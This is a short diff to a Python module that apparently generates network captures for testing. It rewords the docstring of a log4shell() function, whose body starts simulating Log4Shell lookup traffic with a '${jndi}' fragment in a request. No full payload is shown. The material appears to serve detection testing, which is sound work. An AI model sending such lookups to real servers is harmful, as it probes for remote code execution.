@@ -116,7 +116,7 @@ def injection() -> Capture:
 
 
 def log4shell() -> Capture:
-    """Lookups in plain and in disguise, then what a vulnerable server does: it asks the LDAP server it was told of."""
+    """Lookups in plain and in disguise, then what a vulnerable server does: it asks the LDAP server of the lookup."""
     capture = Capture()
     browse(capture, [get("/?x=${jndi}", response(), headers={"Referer": "https://shop.example.org/jndi:intro"})])
     attack(
